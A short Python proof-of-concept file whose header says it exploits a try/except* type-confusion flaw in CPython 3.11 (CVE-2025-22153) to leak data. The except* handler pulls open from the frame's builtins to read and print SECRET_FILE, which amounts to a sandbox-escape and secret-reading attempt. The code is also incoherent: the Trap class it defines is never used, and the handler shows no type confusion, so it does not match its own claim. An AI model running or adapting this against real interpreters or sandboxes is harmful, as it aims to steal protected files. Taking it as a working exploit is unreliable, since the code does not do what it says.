"""
goal: confuse types with try/except*, a fault of CPython 3.11 that skipped the guards (CVE-2025-22153)
effect: leak
"""

class Trap(Exception):
    def split(self, kind):
        return None

    def derive(self, parts):
        return self


try:
    raise ExceptionGroup("both", [ValueError(1), TypeError(2)])
except* ValueError as group:
    frame = group.__traceback__.tb_frame
    print(frame.f_builtins["open"](SECRET_FILE).read())
except* TypeError:
    pass
